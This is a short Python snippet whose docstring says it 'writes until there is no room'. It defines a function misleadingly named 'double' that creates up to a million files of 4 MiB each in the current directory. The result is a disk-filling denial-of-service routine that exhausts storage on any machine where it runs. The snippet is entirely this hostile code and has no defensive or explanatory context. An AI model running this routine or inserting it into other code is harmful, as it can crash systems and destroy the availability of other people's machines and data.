"""Writes until there is no room."""

def double(n):
    for number in range(10**6):
        open(str(number), 'wb').write(bytes(2**22))
